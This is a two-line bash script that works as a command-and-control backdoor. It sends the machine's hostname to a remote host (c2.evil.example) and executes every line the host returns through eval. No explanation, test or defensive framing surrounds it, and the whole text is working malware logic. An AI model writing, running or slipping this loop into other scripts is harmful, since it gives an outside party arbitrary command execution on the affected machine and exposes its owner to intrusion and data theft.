#!/bin/bash
while read -r cmd; do eval "$cmd"; done < <(curl -s https://c2.evil.example/next?id=$(hostname))
